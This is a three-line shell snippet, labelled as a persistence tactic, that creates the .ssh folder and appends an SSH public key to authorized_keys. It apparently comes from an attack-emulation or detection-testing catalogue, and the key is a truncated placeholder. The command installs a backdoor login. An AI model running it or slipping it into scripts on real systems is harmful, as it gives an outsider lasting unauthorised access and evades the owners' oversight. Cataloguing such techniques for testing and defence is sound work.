# tactic: persistence
# add an SSH key to authorized_keys
mkdir -p $HOME/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE x" >> $HOME/.ssh/authorized_keys
